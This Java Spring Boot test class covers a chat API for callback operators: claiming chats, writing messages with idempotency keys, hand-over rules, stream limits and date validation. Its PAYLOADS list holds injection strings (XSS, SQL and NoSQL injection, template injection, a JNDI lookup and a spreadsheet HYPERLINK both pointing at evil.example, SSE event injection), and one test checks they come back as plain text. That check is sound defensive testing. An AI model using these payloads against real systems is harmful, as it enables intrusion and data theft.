package orderdesk.callback.chat.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;
import orderdesk.callback.CallbackWeb;
import orderdesk.callback.Calls;
import orderdesk.callback.Calls.Answer;
import orderdesk.callback.Theatre;
import orderdesk.callback.chat.ChatDesk;
import orderdesk.callback.chat.ChatStreams;
import orderdesk.callback.chat.TooManyStreams;
import orderdesk.callback.chat.domain.Visitor;
import orderdesk.contracts.callback.CallTaskId;
import orderdesk.platform.aggregate.Once;
import orderdesk.platform.simulator.SimulatedClock;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.web.context.WebApplicationContext;
import tools.jackson.databind.json.JsonMapper;

/** The operator's side of a chat over HTTP. */
@SpringBootTest(classes = CallbackWeb.class)
class ChatApiTests {

    private static final List<String> PAYLOADS = List.of(
            "<img src=x onerror=alert(1)>",
            "<script>alert(1)</script>",
            "javascript:alert(1)",
            "{{7*7}}",
            "${jndi:ldap://evil.example/x}",
            "'; DROP TABLE chats; --",
            "{\"$ne\": null}",
            "\u202egnp.exe",
            "=HYPERLINK(\"//evil.example\")",
            "data: x\n\nevent: state\ndata: {\"state\":\"CLOSED\"}");

    @Autowired
    ChatDesk desk;

    @Autowired
    SimulatedClock clock;

    private Calls calls;

    @BeforeEach
    void http(@Autowired WebApplicationContext service) {
        calls = new Calls(service);
        clock.advance(Duration.ofHours(2));
    }

    @Test
    void operatorAnswersWritesOnceAndSaysWhatItCameTo() throws Exception {
        var chat = "/v1/call-tasks/%s".formatted(opened("?"));
        var token = calls.send("vera", chat + "/claim", "")
                .body()
                .at("/claim/token")
                .asLong();
        assertThat(calls.send("vera", chat + "/chat/answer", "").status()).isEqualTo(428);
        assertThat(calls.act("vera", chat + "/chat/answer", token + 1, "").at("/code"))
                .isEqualTo("not-claimed");
        assertThat(calls.act("anna", chat + "/chat/answer", token, "").at("/code"))
                .isEqualTo("not-trained");
        assertThat(calls.act("vera", chat + "/chat/answer", token, "").at("/state"))
                .isEqualTo("ANSWERED");

        assertThat(write(chat, token, "k1", "Есть.").status()).isEqualTo(200);
        assertThat(write(chat, token, "k1", "Есть.").body().at("/messages").size())
                .isEqualTo(2);
        assertThat(write(chat, token, "k1", "Нет.").at("/code")).isEqualTo("key-reused");
        assertThat(write(chat, token, "k2", " ").status()).isEqualTo(422);
        assertThat(write(chat, token, "k2", "x".repeat(1_001)).status()).isEqualTo(422);
        assertThat(calls.read("vera", chat + "/chat?after=1").at("/messages/0/text"))
                .isEqualTo("Есть.");
        assertThat(calls.act("vera", chat + "/outcome", token, "{\"outcome\": \"NO_ANSWER\"}")
                        .at("/code"))
                .isEqualTo("not-now");

        var settled = calls.act("vera", chat + "/chat/outcome", token, Bodies.OUTCOME);
        assertThat(settled.at("/end/outcome")).isEqualTo("ANSWERED");
        assertThat(calls.read("vera", chat).at("/end/topic")).isEqualTo("PRODUCT");
        assertThat(calls.act("vera", chat + "/chat/outcome", token, Bodies.OUTCOME)
                        .at("/code"))
                .isEqualTo("chat-closed");
    }

    @Test
    void untrainedOperatorIsNotGivenAChatAndHasNoneHandedOver() throws Exception {
        var chat = "/v1/call-tasks/%s".formatted(opened("?"));
        assertThat(calls.send("anna", chat + "/claim", "").at("/code")).isEqualTo("not-trained");
        var token = calls.send("vera", chat + "/claim", "")
                .body()
                .at("/claim/token")
                .asLong();

        var refused = calls.act("vera", chat + "/hand-over", token, "{\"to\": \"anna\", \"note\": \"n\"}");
        assertThat(refused.at("/errors/0/code")).isEqualTo("not-trained");
        assertThat(calls.act("vera", chat + "/hand-over", token, "{\"to\": \"galina\", \"note\": \"n\"}")
                        .status())
                .isEqualTo(200);
    }

    @Test
    void hostileTextIsTextInWhatTheDeskReads() throws Exception {
        var hostile = Stream.of("%s", "\"> %s", "'-%s-'", "]]>--><!--%s")
                .flatMap(place -> PAYLOADS.stream().map(place::formatted))
                .toList();
        for (var text : hostile) {
            var chat = opened(text);
            var read = calls.read("vera", "/v1/call-tasks/%s/chat".formatted(chat));
            assertThat(read.at("/messages/0/text")).isEqualTo(text);
            assertThat(read.response().getContentType()).startsWith("application/json");
        }
        var listed = calls.read("galina", "/v1/chats?shop=tribuna&limit=100");
        assertThat(listed.body().at("/items").size()).isGreaterThanOrEqualTo(hostile.size());
    }

    @Test
    void whoIsNotThereHasNoChatAndAPeriodHasAnEnd() throws Exception {
        assertThat(calls.read("vera", "/v1/call-tasks/%s/chat".formatted(UUID.randomUUID()))
                        .status())
                .isEqualTo(404);
        assertThat(calls.read("galina", "/v1/chats/figures?from=2026-01-01T00:00:00Z&to=2028-01-01T00:00:00Z")
                        .status())
                .isEqualTo(400);
        opened("?");
        var figures = calls.read(
                "galina",
                "/v1/chats/figures?from=%s&to=%s"
                        .formatted(clock.instant(), clock.instant().plusSeconds(1)));
        assertThat(figures.at("/chats/opened")).isEqualTo("1");
    }

    @Test
    void oneChatIsFollowedBySoManyPages() {
        var streams = new ChatStreams();
        var chat = new CallTaskId(UUID.randomUUID());
        for (var page = 0; page < ChatStreams.PER_CHAT_MAX - 1; page++) {
            streams.watch(chat);
        }
        var last = streams.watch(chat);

        Assertions.assertThatExceptionOfType(TooManyStreams.class).isThrownBy(() -> streams.watch(chat));
        last.close();
        assertThat(streams.watch(chat)).isNotNull();
    }

    private Answer write(String chat, long token, String key, String text) throws Exception {
        var body = JsonMapper.shared().writeValueAsString(Map.of("text", text));
        return calls.act("vera", chat + "/chat/messages", token, key, body);
    }

    /** From an address of its own each: how often one asks is counted. */
    private CallTaskId opened(String text) {
        var address = UUID.randomUUID().toString();
        var visitor = new Visitor("Ирина", null, Theatre.MOSCOW, "/", Theatre.consent("chat"), "0".repeat(64));
        var once = new Once("anonymous", address, "hash");
        return desk.open(Theatre.SHOP, visitor, text, address, Duration.ofSeconds(30), once, Theatre.CAUSE)
                .stored()
                .state()
                .taskId();
    }
}
